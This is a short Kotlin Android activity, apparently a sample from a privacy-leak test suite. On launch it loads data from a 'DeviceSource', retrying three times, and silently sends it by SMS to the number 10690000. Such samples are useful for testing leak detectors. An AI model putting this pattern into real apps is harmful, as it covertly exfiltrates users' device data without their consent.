package cn.privlens.suite.retried_value

import android.app.Activity
import android.os.Bundle
import android.telephony.SmsManager

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val source = DeviceSource(this)
        val text = retry(3) { attempt -> source.load(attempt) }
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null)
    }
}
